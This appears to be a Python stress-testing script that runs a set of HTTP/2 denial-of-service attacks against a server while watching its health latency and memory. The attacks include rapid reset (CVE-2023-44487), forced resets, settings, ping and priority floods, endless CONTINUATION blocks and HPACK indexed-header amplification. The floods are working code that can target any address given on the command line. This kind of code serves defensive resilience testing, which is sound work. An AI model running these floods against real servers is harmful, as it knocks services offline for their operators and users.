#!/usr/bin/env python3
"""Attacks on an HTTP/2 server that need no leave: each sends what made servers grow or fall silent, and tells how it ended.

Health is asked for meanwhile on a connection of its own, and the memory of --pid is watched. Fails where the server does not
serve afterwards. A client that is cut off comes again, so a server has to be the one that is not worn out.
"""

import argparse
import contextlib
import multiprocessing
import os
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

from http2_connection import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, MAX_FRAME,
                              NOT_ACCEPTED, PING, PRIORITY, Connection, HealthClient, Target, frame, hpack_literal,
                              hpack_reference, rst_stream, settings, window_update)

BATCH = 100  # Frames that are sent at one time.
FIRST_DYNAMIC_INDEX = 62


@dataclass
class Report:
    """What an attack sent, and how its connections ended."""

    attack: str
    unit: str  # Of what `count` is the number.
    count: int = 0
    bytes_sent: int = 0
    connections: int = 0
    begun: int = 0  # Of these: that were accepted. (Some are closed while the first of the attack is sent.)
    answered: int = 0
    reset: int = 0
    ends: Counter[str] = field(default_factory=Counter)
    seconds: float = 0
    _mutex: threading.Lock = field(default_factory=threading.Lock)

    def add(self, connection: Connection, count: int) -> None:
        fate = connection.fate
        with self._mutex:
            self.count += count
            self.bytes_sent += connection.bytes_sent
            self.connections += 1
            self.begun += not fate.end.startswith(NOT_ACCEPTED)
            self.answered += fate.answered
            self.reset += fate.reset
            self.ends[fate.end or "open to the end"] += 1

    def faults(self) -> list[str]:
        """Why it was not the attack that it is said to be."""
        faults = [f"{count} x {end}" for end, count in self.ends.items() if end.startswith(NOT_ACCEPTED)]
        return faults if self.begun else [*faults, "it began on no connection"]

    def __str__(self) -> str:
        ends = "; ".join(f"{count} x {end}" for end, count in self.ends.most_common())
        return (f"{self.attack}: {self.count} {self.unit}, {self.bytes_sent / 2**20:.1f} MiB on {self.connections} connections "
                f"in {self.seconds:.1f} s; {self.answered} streams answered, {self.reset} reset by the server; {ends}")


@dataclass
class Attacker:
    """Attacks `target`. `meanwhile` is called while what an attack holds open is open; `scale` multiplies every number."""

    target: Target
    meanwhile: Callable[[], None] | None = None
    scale: float = 1

    def rapid_resets(self) -> Report:
        """Streams that are reset as they are opened (CVE-2023-44487)."""
        return self._flood("rapid-resets", "streams", 12, 20000, {}, self._calls_and(rst_stream))

    def whole_call_resets(self) -> Report:
        """Calls that have come as a whole, and so are begun to be answered, and are then reset."""
        return self._flood("whole-call-resets", "streams", 12, 20000, {}, self._calls_and(
            lambda stream: frame(DATA, END_STREAM, stream, bytes(5)) + rst_stream(stream)))

    def forced_resets(self) -> Report:
        """Streams that the server has to reset, for a window update of 0 is wrong (CVE-2025-8671)."""
        return self._flood("forced-resets", "streams", 12, 20000, {},
                           self._calls_and(lambda stream: window_update(stream, 0)))

    def settings_floods(self) -> Report:
        """Settings whose acknowledgements are not read (CVE-2019-9515)."""
        change = settings({INITIAL_WINDOW_SIZE: 65535})
        return self._flood("settings-floods", "frames", 4, 500000, {"reads": False}, lambda _: change)

    def ping_floods(self) -> Report:
        """Pings whose answers are not read (CVE-2019-9512)."""
        ping = frame(PING, 0, 0, bytes(8))
        return self._flood("ping-floods", "frames", 4, 500000, {"reads": False}, lambda _: ping)

    def unread_refusals(self) -> Report:
        """Streams beyond the server's limits, of who has not heard of them and does not read that they are refused."""
        return self._flood("unread-refusals", "streams", 2, 1000000, {"acknowledges": False, "reads": False},
                           lambda connection: frame(HEADERS, END_HEADERS, connection.next_stream()))

    def priority_floods(self) -> Report:
        """Priorities of a stream that is told to depend on ever another (CVE-2019-9513)."""
        return self._flood("priority-floods", "frames", 4, 200000, {}, lambda connection: frame(
            PRIORITY, 0, 1, struct.pack(">IB", connection.next_stream() + 2, 255)))

    def empty_data_floods(self) -> Report:
        """Empty frames of a stream that does not end (CVE-2019-9518)."""
        call, nothing = self.target.headers(), frame(DATA, 0, 1)
        return self._flood("empty-data-floods", "frames", 4, 200000, {}, lambda connection: (
            nothing if connection.last_stream else frame(HEADERS, END_HEADERS, connection.next_stream(), call)))

    def continuations(self) -> Report:
        """Header blocks that never end, of full frames (CVE-2024-27316)."""
        more = frame(CONTINUATION, 0, 1, hpack_literal("x", "y" * 250) * (MAX_FRAME // 256))
        return self._flood("continuations", "frames", 4, 2000, {"acknowledges": False}, self._endless_block(more))

    def empty_continuations(self) -> Report:
        """Header blocks that never end, of empty frames."""
        return self._flood("empty-continuations", "frames", 4, 200000, {"acknowledges": False},
                           self._endless_block(frame(CONTINUATION, 0, 1)))

    def unacknowledged_settings(self) -> Report:
        """Streams beyond the server's limits, which hold for who has acknowledged them."""
        return self._hold("unacknowledged-settings", "streams", 4, 10000, {"acknowledges": False},
                          self._calls_and(lambda stream: b""))

    def indexed_headers(self) -> Report:
        """Calls of 4,000 references to one long header of the dynamic table, each of which takes a byte."""
        call = self.target.headers()
        first = call + hpack_literal("x", "y" * 3900, indexed=True)
        again = call + hpack_reference(FIRST_DYNAMIC_INDEX) * 4000
        return self._hold("indexed-headers", "calls", 3, 3500, {"acknowledges": False}, lambda connection: frame(
            HEADERS, END_HEADERS, connection.next_stream(), again if connection.last_stream > 1 else first))

    def idle_connections(self) -> Report:
        """Connections that make no call, and say that they live."""
        return self._hold("idle-connections", "pings", 100, 1, {}, lambda _: frame(PING, 0, 0, bytes(8)))

    def zero_windows(self) -> Report:
        """Calls whose answers are not let through."""
        return self._hold("zero-windows", "calls", 100, 100, {"first_settings": {INITIAL_WINDOW_SIZE: 0}},
                          self._calls_and(lambda stream: frame(DATA, END_STREAM, stream, bytes(5))))

    def _calls_and(self, then: Callable[[int], bytes]) -> Callable[[Connection], bytes]:
        """Begins a call and sends on its stream what `then` makes."""
        call = self.target.headers()

        def make(connection: Connection) -> bytes:
            stream = connection.next_stream()
            return frame(HEADERS, END_HEADERS, stream, call) + then(stream)
        return make

    def _endless_block(self, more: bytes) -> Callable[[Connection], bytes]:
        """(In a block nothing else may be sent, no acknowledgement either.)"""
        call = self.target.headers()
        return lambda connection: more if connection.last_stream else frame(HEADERS, 0, connection.next_stream(), call)

    def _send(self, connection: Connection, count: int, make: Callable[[Connection], bytes]) -> int:
        sent = 0
        while sent < count:
            size = min(BATCH, count - sent)
            if not connection.send(b"".join(make(connection) for _ in range(size))):
                break
            sent += size
        return sent

    def _flood(self, attack: str, unit: str, workers: int, count: int, manner: dict,
               make: Callable[[Connection], bytes]) -> Report:
        """From each worker `count` of what `make` makes. One that is cut off comes again, but after a hundred connections
        of which nothing was taken."""
        report, count = Report(attack, unit), max(1, round(count * self.scale))

        def work() -> None:
            left, in_vain = count, 0
            while left > 0 and in_vain < 100:
                with Connection(self.target, **manner) as connection:
                    sent = self._send(connection, left, make)
                    if connection.reads and connection.acknowledges:
                        connection.settle()
                    else:
                        connection.poll()
                    report.add(connection, sent)
                left -= sent
                in_vain = 0 if sent else in_vain + 1

        begun = time.monotonic()
        with ThreadPoolExecutor(workers) as pool:
            for done in [pool.submit(work) for _ in range(workers)]:
                done.result()
        report.seconds = time.monotonic() - begun
        return report

    def _hold(self, attack: str, unit: str, connections: int, count: int, manner: dict,
              make: Callable[[Connection], bytes]) -> Report:
        """From each connection `count` of what `make` makes; all stay open to the end of `meanwhile`."""
        report, count = Report(attack, unit), max(1, round(count * self.scale))
        begun = time.monotonic()
        with contextlib.ExitStack() as held:
            sent = []
            for _ in range(connections):
                connection = held.enter_context(Connection(self.target, **manner))
                sent.append((connection, self._send(connection, count, make)))
            for connection, _ in sent:
                connection.settle()
            if self.meanwhile:
                self.meanwhile()
            for connection, number in sent:
                connection.poll()
                report.add(connection, number)
        report.seconds = time.monotonic() - begun
        return report


ATTACKS: dict[str, Callable[[Attacker], Report]] = {
    name.replace("_", "-"): attack for name, attack in vars(Attacker).items()
    if callable(attack) and not name.startswith("_")}


class HealthWatch:
    """Asks for health all the time, from a process of its own: what the attackers take of this one is not the server's.
    When its context begins it has been answered or refused once."""

    def __init__(self, target: Target):
        fork = multiprocessing.get_context("fork")
        self._answers, answers = fork.Pipe(duplex=False)
        self._begun, self._stop = fork.Event(), fork.Event()
        self._process = fork.Process(target=self._watch, args=(target, answers), daemon=True)
        self.latencies: list[float] = []
        self.failures: list[str] = []

    def __enter__(self):
        self._process.start()
        self._begun.wait()
        return self

    def __exit__(self, *_):
        self._stop.set()
        self.latencies, self.failures = self._answers.recv()
        self._process.join()

    def _watch(self, target: Target, answers) -> None:
        latencies, failures = [], []
        while not self._stop.is_set():
            try:
                with HealthClient(target) as client:
                    while not self._stop.wait(0.01):
                        latencies.append(client.check())
                        self._begun.set()
            except ConnectionError as error:
                failures.append(str(error))
                self._begun.set()
                self._stop.wait(0.01)
        answers.send((sorted(latencies), failures))

    def percentile_ms(self, part: float) -> float:
        return self.latencies[int(len(self.latencies) * part)] * 1e3

    def faults(self) -> list[str]:
        """Its failures; and that it was slow, where ATTACK_P99_MS in the environment says how slow the 99th of a hundred may be.
        That is for machines which have time to spare."""
        most = float(os.environ.get("ATTACK_P99_MS", "inf"))
        if not self.latencies or self.percentile_ms(0.99) <= most:
            return self.failures
        return [*self.failures, f"{self}, more than ATTACK_P99_MS={most:g}"]

    def __str__(self) -> str:
        if not self.latencies:
            return f"health: never answered, {len(self.failures)} failures"
        p50, p99 = self.percentile_ms(0.5), self.percentile_ms(0.99)
        return (f"health: {len(self.latencies)} answers, p50 {p50:.1f} ms, p99 {p99:.1f} ms, slowest "
                f"{self.latencies[-1] * 1e3:.1f} ms, {len(self.failures)} failures {self.failures[:1] or ''}")


def memory_bytes(pid: int, kind: str = "VmRSS") -> int:
    """VmRSS, or VmHWM: the most that it was."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(f"{kind}:"):
            return int(line.split()[1]) * 1024
    raise ProcessLookupError(f"process {pid} has no {kind}")


def endpoint(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host.strip("[]"), int(port)


def client_context(ca: Path | None) -> ssl.SSLContext:
    """TLS with HTTP/2; without a CA whoever answers is believed."""
    context = ssl.create_default_context(cafile=ca)
    if ca is None:
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--address", type=endpoint, required=True, metavar="HOST:PORT")
    parser.add_argument("--tls", action="store_true", help="without --ca, whatever its certificate")
    parser.add_argument("--ca", type=Path)
    parser.add_argument("--server-name", default="", help="that its certificate must have")
    parser.add_argument("--token", default="", help="bearer token of the calls")
    parser.add_argument("--path", default=Target.path, help="of the calls (%(default)s)")
    parser.add_argument("--health-address", type=endpoint, metavar="HOST:PORT", help="where health is served in plain text")
    parser.add_argument("--pid", type=int, help="the server's, on this machine")
    parser.add_argument("--scale", type=float, default=1, help="multiplies what is sent (%(default)s)")
    parser.add_argument("attacks", nargs="+", choices=["all", *ATTACKS], metavar="ATTACK", help=", ".join(["all", *ATTACKS]))
    flags = parser.parse_args()
    tls = client_context(flags.ca) if flags.tls or flags.ca else None
    target = Target(*flags.address, tls, flags.server_name, flags.token, flags.path)
    health = Target(*flags.health_address) if flags.health_address else Target(*flags.address, tls, flags.server_name)
    for name in ATTACKS if "all" in flags.attacks else flags.attacks:
        before = flags.pid and memory_bytes(flags.pid)
        with HealthWatch(health) as watch:
            print(ATTACKS[name](Attacker(target, scale=flags.scale)), flush=True)
        print(f"  {watch}")
        if flags.pid:
            print(f"  memory: {before / 2**20:.0f} MiB before, {memory_bytes(flags.pid) / 2**20:.0f} after, "
                  f"{memory_bytes(flags.pid, 'VmHWM') / 2**20:.0f} at most", flush=True)
        with HealthClient(health) as client:
            client.check()
    return 0


if __name__ == "__main__":
    sys.exit(main())
